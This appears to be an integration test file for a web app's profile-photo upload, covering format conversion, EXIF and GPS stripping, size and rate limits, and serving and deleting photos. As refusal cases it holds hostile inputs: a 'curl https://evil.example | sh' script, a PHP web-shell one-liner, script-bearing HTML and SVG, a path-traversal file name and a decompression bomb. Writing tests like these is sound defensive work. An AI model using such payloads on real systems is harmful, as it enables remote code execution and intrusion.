import { existsSync, mkdtempSync, readdirSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import sharp from "sharp";
import { beforeAll, describe, expect, it } from "vitest";
import { haveEmulator, signInWithPhone } from "../../support/auth-emulator";
import { routeArgs, settle, statusOf } from "../../support/route-call";

// Real sharp on images made here by sharp itself; photos on disk in a folder of this run's own.
const UPLOADS = mkdtempSync(join(tmpdir(), "stillhour-photos-"));
process.env.SQLITE_PATH = ":memory:";
process.env.SESSION_SECRET = "integration-test-secret-long-enough-000000";
process.env.UPLOADS_DIR = UPLOADS;

const { getStore } = await import("../../../app/services/store/index.server");
const { preparePhoto, updateProfilePhoto, removeProfilePhoto, getProfilePhotoFile } =
  await import("../../../app/models/identity/profile-photo.server");
const { readPhotoForm } = await import("../../../app/server/photo-form.server");
const { PHOTO_MAX_BYTES, PHOTO_MAX_REQUEST_BYTES, photoFileNameFromUrl } = await import("../../../app/models/identity/profile-photo");
const { getPrivateUser, savePrivateUser } = await import("../../../app/models/identity/user.server");
const photoRoute = await import("~/routes/images.members.$file/route");
const settingsRoute = await import("~/routes/settings/route");
const sessionRoute = await import("~/routes/api.session/route");

const SITE = "http://localhost:3000";
const storedFiles = () =>
  existsSync(join(UPLOADS, "members")) ? readdirSync(join(UPLOADS, "members")).filter((name) => !name.startsWith(".")) : [];

const solid = (width: number, height: number, background: string) => sharp({ create: { width, height, channels: 3, background } });

/** A 300 x 200 JPEG stored sideways: red on top, blue below; EXIF says "turn 90° clockwise" and where it was taken. */
async function sidewaysJpegWithGps(): Promise<Buffer> {
  const red = await solid(300, 100, "#d02020").png().toBuffer();
  const blue = await solid(300, 100, "#2030d0").png().toBuffer();
  return solid(300, 200, "#000000")
    .composite([
      { input: red, top: 0, left: 0 },
      { input: blue, top: 100, left: 0 },
    ])
    .jpeg({ quality: 90 })
    .withMetadata({
      orientation: 6,
      exif: {
        IFD0: { Make: "StillhourTestCam", Model: "Sideways 1" },
        IFD3: {
          GPSLatitudeRef: "N",
          GPSLatitude: "48/1 51/1 24/1",
          GPSLongitudeRef: "E",
          GPSLongitude: "2/1 21/1 7/1",
          GPSMapDatum: "WGS-84",
        },
      },
    })
    .toBuffer();
}

/** sharp's dominant colour comes from a coarse histogram: near the true colour, not equal to it. */
function expectNear(actual: string | null | undefined, expected: string) {
  expect(actual).toMatch(/^#[0-9a-f]{6}$/);
  const channels = (hex: string) => [1, 3, 5].map((i) => Number.parseInt(hex.slice(i, i + 2), 16));
  const a = channels(actual!);
  channels(expected).forEach((value, i) => expect(Math.abs(value - a[i])).toBeLessThanOrEqual(16));
}

const fileOf = (bytes: Uint8Array | string, name: string, type: string) =>
  new File([typeof bytes === "string" ? bytes : new Uint8Array(bytes)], name, { type });

/** A multipart request as a browser sends the photo form. */
function photoRequest(file: File | null, init: { cookie?: string; intent?: string } = {}): Request {
  const form = new FormData();
  form.set("intent", init.intent ?? "photo");
  form.set("photo", file ?? new File([], "", { type: "application/octet-stream" }));
  const headers = new Headers({ Origin: SITE });
  if (init.cookie) headers.set("Cookie", init.cookie);
  return new Request(`${SITE}/settings`, { method: "POST", body: form, headers });
}

beforeAll(() => getStore());

describe("preparing a photo (real sharp)", () => {
  it("turns a PNG into a 512 px square WebP and finds its colour", async () => {
    const png = await solid(800, 600, "#4f7a6a").png().toBuffer();
    const prepared = await preparePhoto(png);
    expect(prepared).toMatchObject({ ok: true, sourceType: "png" });
    if (!prepared.ok) return;
    expectNear(prepared.color, "#4f7a6a");
    const out = await sharp(prepared.webp).metadata();
    expect(out).toMatchObject({ format: "webp", width: 512, height: 512 });
    expect(prepared.webp.byteLength).toBeLessThan(60_000);
  });

  it("turns a sideways JPEG upright and leaves its EXIF and GPS behind", async () => {
    const jpeg = await sidewaysJpegWithGps();
    const before = await sharp(jpeg).metadata();
    expect(before.orientation).toBe(6);
    expect(before.exif?.includes("WGS-84")).toBe(true);
    expect(before.exif?.includes("StillhourTestCam")).toBe(true);

    const prepared = await preparePhoto(jpeg);
    expect(prepared).toMatchObject({ ok: true, sourceType: "jpeg" });
    if (!prepared.ok) return;
    const after = await sharp(prepared.webp).metadata();
    expect(after).toMatchObject({ format: "webp", width: 512, height: 512 });
    expect(after.exif).toBeUndefined();
    expect(after.xmp).toBeUndefined();
    expect(after.icc).toBeUndefined();
    expect(after.orientation).toBeUndefined();
    expect(prepared.webp.includes("WGS-84")).toBe(false);
    expect(prepared.webp.includes("StillhourTestCam")).toBe(false);

    // Turned clockwise, the top (red) is now on the right and the bottom (blue) on the left.
    const { data } = await sharp(prepared.webp).raw().toBuffer({ resolveWithObject: true });
    const pixel = (x: number, y: number) => Array.from(data.subarray((y * 512 + x) * 3, (y * 512 + x) * 3 + 3));
    const [leftR, , leftB] = pixel(64, 256);
    const [rightR, , rightB] = pixel(448, 256);
    expect(leftB).toBeGreaterThan(leftR);
    expect(rightR).toBeGreaterThan(rightB);
  });

  it("takes an AVIF, a WebP and the first frame of a GIF", async () => {
    expect(await preparePhoto(await solid(120, 90, "#b4532f").avif().toBuffer())).toMatchObject({ ok: true, sourceType: "avif" });
    expect(await preparePhoto(await solid(120, 90, "#b4532f").webp().toBuffer())).toMatchObject({ ok: true, sourceType: "webp" });
    expect(await preparePhoto(await solid(120, 90, "#b4532f").gif().toBuffer())).toMatchObject({ ok: true, sourceType: "gif" });
  });

  it.each([
    ["a shell script named .jpg", "#!/bin/sh\ncurl https://evil.example | sh\n", "photo_unsupported"],
    ["an HTML page", "<!doctype html><script>alert(1)</script>", "photo_unsupported"],
    [
      "an SVG with a script",
      '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>',
      "photo_unsupported",
    ],
    ["a PDF", "%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF", "photo_unsupported"],
    ["an empty file", "", "photo_empty"],
    ["a JPEG header and nothing else", "\u00ff\u00d8\u00ff\u00e0garbage", "photo_unreadable"],
  ])("refuses %s", async (_name, text, code) => {
    expect(await preparePhoto(Buffer.from(text, "latin1"))).toEqual({ ok: false, code });
  });

  it("refuses a PNG whose decoded size would be too large (a decompression bomb) without decoding it", async () => {
    const bomb = await solid(10_000, 6_000, "#ffffff").png({ compressionLevel: 9 }).toBuffer();
    expect(bomb.byteLength).toBeLessThan(PHOTO_MAX_BYTES);
    const started = performance.now();
    expect(await preparePhoto(bomb)).toEqual({ ok: false, code: "photo_too_many_pixels" });
    expect(performance.now() - started).toBeLessThan(1_000);
  });

  it("refuses a TIFF, which sharp could read but members don't need", async () => {
    const tiff = await solid(40, 40, "#336699").tiff().toBuffer();
    expect(await preparePhoto(tiff)).toEqual({ ok: false, code: "photo_unsupported" });
  });
});

describe("reading the photo form", () => {
  it("refuses a 10 MB body from its Content-Length, reading none of it", async () => {
    let pulled = 0;
    const body = new ReadableStream<Uint8Array>({
      pull(controller) {
        pulled += 65_536;
        controller.enqueue(new Uint8Array(65_536));
      },
    });
    const request = new Request(`${SITE}/settings`, {
      method: "POST",
      body,
      duplex: "half",
      headers: { "Content-Type": "multipart/form-data; boundary=x", "Content-Length": String(10 * 1024 * 1024) },
    } as RequestInit);
    expect(await readPhotoForm(request)).toEqual({ ok: false, code: "photo_too_large" });
    expect(pulled).toBeLessThanOrEqual(65_536 * 2);
  });

  it("stops reading a body with no length once it passes the limit", async () => {
    const boundary = "----stillhour";
    const head = new TextEncoder().encode(
      `--${boundary}\r\nContent-Disposition: form-data; name="intent"\r\n\r\nphoto\r\n--${boundary}\r\nContent-Disposition: form-data; name="photo"; filename="big.jpg"\r\nContent-Type: image/jpeg\r\n\r\n`,
    );
    let sent = 0;
    const body = new ReadableStream<Uint8Array>({
      start(controller) {
        controller.enqueue(head);
      },
      pull(controller) {
        if (sent >= 10 * 1024 * 1024) return controller.close();
        sent += 65_536;
        controller.enqueue(new Uint8Array(65_536).fill(0x41));
      },
    });
    const request = new Request(`${SITE}/settings`, {
      method: "POST",
      body,
      duplex: "half",
      headers: { "Content-Type": `multipart/form-data; boundary=${boundary}` },
    } as RequestInit);
    expect(await readPhotoForm(request)).toEqual({ ok: false, code: "photo_too_large" });
    expect(sent).toBeLessThan(PHOTO_MAX_REQUEST_BYTES + 4 * 65_536);
  });

  it("refuses a file just over 5 MB inside a body under the request limit", async () => {
    const request = photoRequest(fileOf(new Uint8Array(PHOTO_MAX_BYTES + 1), "big.jpg", "image/jpeg"));
    expect(await readPhotoForm(request)).toEqual({ ok: false, code: "photo_too_large" });
  });

  it("reads the intent and the file; a body with no parts has neither", async () => {
    const png = await solid(10, 10, "#ffffff").png().toBuffer();
    const read = await readPhotoForm(photoRequest(fileOf(png, "me.png", "image/png")));
    expect(read.ok && read.fields.get("intent")).toBe("photo");
    expect(read.ok && read.file?.size).toBe(png.byteLength);
    const partless = new Request(`${SITE}/settings`, {
      method: "POST",
      body: "no parts here",
      headers: { "Content-Type": "multipart/form-data; boundary=zzz" },
    });
    const empty = await readPhotoForm(partless);
    expect(empty.ok && [empty.fields.get("intent"), empty.file]).toEqual([null, null]);
  });
});

describe("a member's photo, stored and served", () => {
  it("saves a new name each time, serves it with its palette, and removes the old file", async () => {
    const uid = `photo-member-${Date.now()}`;
    await savePrivateUser(uid, { firstName: "Ada", lastName: "Reyes" });
    const first = await updateProfilePhoto(uid, fileOf(await solid(600, 600, "#335577").png().toBuffer(), "me.png", "image/png"));
    expect(first).toMatchObject({ ok: true, photoUrl: expect.stringMatching(/^\/images\/members\/[0-9a-f]{32}\.webp$/) });
    const record = await getPrivateUser(uid);
    expect(record).toMatchObject({ photoUrl: first.ok && first.photoUrl, firstName: "Ada" });
    expectNear(record?.photoColor, "#335577");
    const firstName = photoFileNameFromUrl(record?.photoUrl)!;

    const served = (await photoRoute.loader(
      routeArgs(new Request(`${SITE}/images/members/${firstName}`), { file: firstName }),
    )) as Response;
    expect(served.status).toBe(200);
    expect(served.headers.get("Content-Type")).toBe("image/webp");
    expect(served.headers.get("Cache-Control")).toBe("private, max-age=31536000, immutable");
    expect((await sharp(Buffer.from(await served.arrayBuffer())).metadata()).width).toBe(512);

    const palette = (await photoRoute.loader(
      routeArgs(new Request(`${SITE}/images/members/${firstName}?palette=json&colors=1`), { file: firstName }),
    )) as Response;
    expect(await palette.json()).toMatchObject({ dominant_colors: { muted: { hex: record?.photoColor } } });

    const second = await updateProfilePhoto(uid, fileOf(await sidewaysJpegWithGps(), "holiday.jpg", "image/jpeg"));
    expect(second.ok).toBe(true);
    const secondName = photoFileNameFromUrl((await getPrivateUser(uid))?.photoUrl)!;
    expect(secondName).not.toBe(firstName);
    expect(await getProfilePhotoFile(firstName)).toBeNull();
    expect(storedFiles()).toContain(secondName);
    expect(storedFiles()).not.toContain(firstName);

    // A refused upload changes nothing.
    expect(await updateProfilePhoto(uid, fileOf("<?php system($_GET['c']); ?>", "me.jpg", "image/jpeg"))).toEqual({
      ok: false,
      code: "photo_unsupported",
    });
    expect((await getPrivateUser(uid))?.photoUrl).toBe(`/images/members/${secondName}`);

    expect(await removeProfilePhoto(uid)).toEqual({ ok: true, photoUrl: null });
    expect(await getPrivateUser(uid)).toMatchObject({ photoUrl: null, photoColor: null, firstName: "Ada" });
    expect(storedFiles()).not.toContain(secondName);
    const gone = await settle(photoRoute.loader(routeArgs(new Request(`${SITE}/images/members/${secondName}`), { file: secondName })));
    expect((gone as Response).status).toBe(404);
  });

  it("takes 20 uploads from one member in 10 minutes, then asks them to wait", async () => {
    const uid = `busy-member-${Date.now()}`;
    const tiny = await solid(16, 16, "#e39a7b").png().toBuffer();
    const filesBefore = storedFiles().length;
    for (let i = 0; i < 20; i++) expect((await updateProfilePhoto(uid, fileOf(tiny, "me.png", "image/png"))).ok).toBe(true);
    expect(await updateProfilePhoto(uid, fileOf(tiny, "me.png", "image/png"))).toEqual({ ok: false, code: "rate_limited" });
    // Each new photo replaced the one before: one file left for this member.
    const current = photoFileNameFromUrl((await getPrivateUser(uid))?.photoUrl);
    expect(storedFiles()).toContain(current);
    expect(storedFiles()).toHaveLength(filesBefore + 1);
  });

  it("tells no file chosen from an empty one", async () => {
    expect(await updateProfilePhoto("nobody", null)).toEqual({ ok: false, code: "photo_missing" });
    expect(await updateProfilePhoto("nobody", new File([], "", { type: "application/octet-stream" }))).toEqual({
      ok: false,
      code: "photo_missing",
    });
    expect(await updateProfilePhoto("nobody", fileOf("", "empty.jpg", "image/jpeg"))).toEqual({ ok: false, code: "photo_empty" });
  });

  it("answers 404 for any name it did not make", async () => {
    for (const file of ["../../stillhour.sqlite", "x.webp", "0123456789abcdef0123456789abcdef.webp"]) {
      const answer = await settle(photoRoute.loader(routeArgs(new Request(`${SITE}/images/members/x`), { file })));
      expect((answer as Response).status).toBe(404);
    }
  });
});

describe.skipIf(!haveEmulator)("the settings photo form (Auth emulator)", () => {
  let cookie = "";
  let uid = "";

  beforeAll(async () => {
    const signedIn = await signInWithPhone(`+1555010${String(Date.now() % 10000).padStart(4, "0")}`);
    uid = signedIn.uid;
    const headers = new Headers({ Authorization: `Bearer ${signedIn.idToken}`, Origin: SITE, "x-client-ip": "10.7.0.1" });
    const synced = (await sessionRoute.action(routeArgs(new Request(`${SITE}/api/session`, { method: "POST", headers })))) as Response;
    expect(synced.status).toBe(200);
    cookie = synced.headers.get("Set-Cookie")!.split(";")[0];
    await savePrivateUser(uid, { firstName: "Noor", lastName: "Sato", username: null });
  });

  const act = async (request: Request) => {
    return (await settle(settingsRoute.action(routeArgs(request)))) as unknown as { init?: { status?: number }; data?: unknown } | Response;
  };
  const dataOf = (result: unknown) => (result as { data: { form: string; errors: Record<string, string> } }).data;

  it("saves an upload and says so, then removes it", async () => {
    const png = await solid(400, 300, "#8fb0a2").png().toBuffer();
    const saved = await act(photoRequest(fileOf(png, "me.png", "image/png"), { cookie }));
    expect(statusOf(saved)).toBe(302);
    expect((saved as Response).headers.get("Location")).toBe("/settings?saved=photo#photo");
    expect((await getPrivateUser(uid))?.photoUrl).toMatch(/^\/images\/members\//);

    const removed = await act(
      new Request(`${SITE}/settings`, {
        method: "POST",
        body: new URLSearchParams({ intent: "remove-photo" }),
        headers: { Cookie: cookie, Origin: SITE },
      }),
    );
    expect((removed as Response).headers.get("Location")).toBe("/settings?saved=photo-removed#photo");
    expect(await getPrivateUser(uid)).toMatchObject({ photoUrl: null, firstName: "Noor" });
  });

  it("puts the sentence beside the field for a script dressed as a photo, and keeps everything else", async () => {
    const before = await getPrivateUser(uid);
    const refused = await act(photoRequest(fileOf("#!/usr/bin/env node\nprocess.exit(1)\n", "portrait.jpg", "image/jpeg"), { cookie }));
    expect(statusOf(refused)).toBe(400);
    expect(dataOf(refused)).toEqual({
      errors: { photo: expect.stringContaining("isn't a photo we can use") },
      values: { intent: "photo" },
    });
    expect(await getPrivateUser(uid)).toEqual(before);
  });

  it("answers a 10 MB photo with 413 and the sentence beside the field", async () => {
    const big = new Uint8Array(10 * 1024 * 1024);
    big.set([0xff, 0xd8, 0xff, 0xe0]);
    const refused = await act(photoRequest(fileOf(big, "huge.jpg", "image/jpeg"), { cookie }));
    expect(statusOf(refused)).toBe(413);
    expect(dataOf(refused).errors.photo).toMatch(/over 5 MB/);
  });

  it("refuses a multipart post that is not the photo form", async () => {
    const refused = await act(photoRequest(null, { cookie, intent: "profile" }));
    expect(statusOf(refused)).toBe(400);
    expect(dataOf(refused)).toEqual({ errors: { form: expect.any(String) }, values: {} });
  });

  it("deletes the photo with the account", async () => {
    const png = await solid(64, 64, "#12141b").png().toBuffer();
    expect(statusOf(await act(photoRequest(fileOf(png, "me.png", "image/png"), { cookie })))).toBe(302);
    const name = photoFileNameFromUrl((await getPrivateUser(uid))?.photoUrl)!;
    expect(storedFiles()).toContain(name);
    const deleted = await act(
      new Request(`${SITE}/settings`, {
        method: "POST",
        body: new URLSearchParams({ intent: "delete", confirm: "DELETE" }),
        headers: { Cookie: cookie, Origin: SITE },
      }),
    );
    expect((deleted as Response).headers.get("Location")).toBe("/signed-out");
    expect(storedFiles()).not.toContain(name);
    expect(await getPrivateUser(uid)).toBeNull();
  });
});
